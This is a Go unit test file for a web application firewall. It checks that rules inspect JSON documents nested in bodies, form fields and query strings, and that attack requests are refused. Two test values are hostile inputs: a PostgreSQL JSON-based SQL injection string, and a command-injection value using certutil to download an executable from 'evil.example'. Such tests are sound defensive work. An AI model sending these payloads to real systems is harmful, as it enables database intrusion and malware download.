package waf

import (
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/mamori-waf/mamori/internal/jsondoc"
)

func TestJSONLeafDirectives(t *testing.T) {
	got := jsonLeafDirectives()
	for _, want := range []string{
		`SecRuleUpdateActionById 942550 "t:none,t:mamoriJSONLeaves,t:urlDecodeUni,t:removeWhitespace"` + "\n",
		`SecRuleUpdateActionById 932370 "t:none,t:mamoriJSONLeaves"` + "\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in %q", want, got)
		}
	}
	if n := strings.Count(got, "\n"); n != len(jsondoc.Rules) {
		t.Errorf("%d directives for %d rules:\n%s", n, len(jsondoc.Rules), got)
	}
}

// 942550 (CRS and mamori's copies) reads a JSON-document argument leaf by
// leaf, wherever the document is: a form field, a query parameter, a
// string value of a JSON body (issue 11: telemetry beacons), and still
// matches JSON-based SQL injection, in a leaf or not in a document.
func TestJSONDocumentArguments(t *testing.T) {
	flags := `{"feed_version":{"enabled":true,"value":11},"advanced":{"enabled":true,"value":"{}"}}`
	events := `[{"event_action":"show","parameters":"{\"itemId\":4009935,\"key\":\"床垫\"}","url":"https://example.com/"}]`
	sqli := `1' and '{"a":1}'::jsonb @> '{"a":1}'--`
	for _, c := range []struct {
		name, method, target, ctype, body string
		refused                           bool
	}{
		{name: "json_body_nested_document", method: "POST", target: "/e", ctype: "application/json",
			body: `{"events":[{"feature_flags":` + quote(flags) + `}]}`},
		{name: "form_field_document", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "events=" + url.QueryEscape(events)},
		{name: "query_document", method: "GET", target: "/ztbox?data=" + url.QueryEscape(events)},
		{name: "query_name_document", method: "GET", target: "/c?" + url.QueryEscape(events)},
		{name: "sqli_in_a_json_body_leaf", method: "POST", target: "/e", ctype: "application/json",
			body: `{"q":` + quote(sqli) + `}`, refused: true},
		{name: "sqli_in_a_nested_document_leaf", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "events=" + url.QueryEscape(`{"d":`+quote(`{"q":`+quote(sqli)+`}`)+`}`), refused: true},
		{name: "multipart_like_telemetry_document", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
			body: "payload=" + url.QueryEscape(`{"duration":{"static":[{"url":"https://example.com/a.jpeg","method":"get","type":"static"}]}}`)},
		{name: "windows_command_in_a_leaf", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
			body: "payload=" + url.QueryEscape(`{"host":"x & certutil -urlcache -f http://evil.example/a.exe a.exe"}`), refused: true},
		{name: "sqli_form_field", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "q=" + url.QueryEscape(sqli), refused: true},
	} {
		t.Run(c.name, func(t *testing.T) {
			tx := defaultEngine(t).NewTransaction("jsondoc")
			defer tx.Close()
			r := httptest.NewRequest(c.method, c.target, strings.NewReader(c.body))
			if c.ctype != "" {
				r.Header.Set("Content-Type", c.ctype)
			}
			it, err := tx.ProcessRequest(r, "192.0.2.1", 1234)
			if err != nil {
				t.Fatal(err)
			}
			ids := matchIDs(tx.Verdict())
			if (it != nil) != c.refused {
				t.Fatalf("interruption %+v (matches %v), want refused %v", it, ids, c.refused)
			}
		})
	}
}

func quote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}
